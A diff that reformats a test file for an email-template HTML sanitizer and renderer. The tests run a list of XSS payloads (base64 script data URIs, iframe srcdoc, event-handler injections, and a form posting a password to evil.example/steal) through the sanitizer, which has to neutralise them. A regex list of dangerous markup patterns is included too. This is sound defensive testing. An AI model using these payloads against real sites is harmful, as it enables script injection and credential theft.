@@ -18,7 +18,10 @@ const PAYLOADS: [string, string][] = [
   ["data: link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">pulsa</a>`],
   ["data: image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
   ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
-  ["external form post", `<form action="https://evil.example/steal" method="post"><input name="password"><button>Enviar</button></form>`],
+  [
+    "external form post",
+    `<form action="https://evil.example/steal" method="post"><input name="password"><button>Enviar</button></form>`,
+  ],
   ["button formaction", `<button formaction="https://evil.example">x</button>`],
   ["object/embed", `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`],
   ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`],
@@ -32,7 +35,26 @@ const PAYLOADS: [string, string][] = [
   ["link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
 ];
 
-const ACTIVE = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /data:/i, /<svg/i, /<math/i, /<form/i, /<iframe/i, /<object/i, /<embed/i, /<style/i, /<meta/i, /<base/i, /<link/i, /expression\(/i, /url\(/i, /position/i, /formaction/i];
+const ACTIVE = [
+  /<script/i,
+  /\son\w+\s*=/i,
+  /javascript:/i,
+  /data:/i,
+  /<svg/i,
+  /<math/i,
+  /<form/i,
+  /<iframe/i,
+  /<object/i,
+  /<embed/i,
+  /<style/i,
+  /<meta/i,
+  /<base/i,
+  /<link/i,
+  /expression\(/i,
+  /url\(/i,
+  /position/i,
+  /formaction/i,
+];
 
 describe("sanitizeTemplateHtml", () => {
   it.each(PAYLOADS)("makes %s inert", (_, payload) => {
@@ -45,14 +67,19 @@ describe("sanitizeTemplateHtml", () => {
     const clean = sanitizeTemplateHtml(html);
     expect(clean).toContain("<h1>Bienvenido, {{name}}</h1>");
     expect(clean).toContain('style="color:#336699;text-align:center"');
-    expect(clean).toContain('<a href="https://campus.example/acceso" target="_blank" rel="noopener noreferrer">Acceder</a>');
+    expect(clean).toContain(
+      '<a href="https://campus.example/acceso" target="_blank" rel="noopener noreferrer">Acceder</a>',
+    );
     expect(clean).toContain("<td>1</td>");
   });
 });
 
 describe("rendering", () => {
   it("HTML-escapes values, so a hostile name stays text", () => {
-    const mail = renderMail({ title: "Hola {{name}}", text: `<p>Hola {{name}}</p><a href="https://x.example/{{username}}">x</a>` }, { name: `<img src=x onerror=alert(1)>`, username: `" onmouseover="alert(1)` });
+    const mail = renderMail(
+      { title: "Hola {{name}}", text: `<p>Hola {{name}}</p><a href="https://x.example/{{username}}">x</a>` },
+      { name: `<img src=x onerror=alert(1)>`, username: `" onmouseover="alert(1)` },
+    );
     expect(mail.html).toContain("Hola &lt;img src=x onerror=alert(1)&gt;");
     expect(mail.html).not.toMatch(/<img|onmouseover="/);
     expect(mail.subject).toBe("Hola <img src=x onerror=alert(1)>");
@@ -60,7 +87,10 @@ describe("rendering", () => {
   });
 
   it("turns a list into escaped items", () => {
-    const mail = renderMail({ title: "Listas", text: "<p>Tus listas:</p>{{list}}" }, { list: [{ heading: "Álgebra (A-1)", items: ["Pérez, <b>Ana</b>"] }] });
+    const mail = renderMail(
+      { title: "Listas", text: "<p>Tus listas:</p>{{list}}" },
+      { list: [{ heading: "Álgebra (A-1)", items: ["Pérez, <b>Ana</b>"] }] },
+    );
     expect(mail.html).toContain("<p><strong>Álgebra (A-1)</strong></p><ul><li>Pérez, &lt;b&gt;Ana&lt;/b&gt;</li></ul>");
     expect(mail.text).toContain("Álgebra (A-1)\n  - Pérez, <b>Ana</b>");
   });
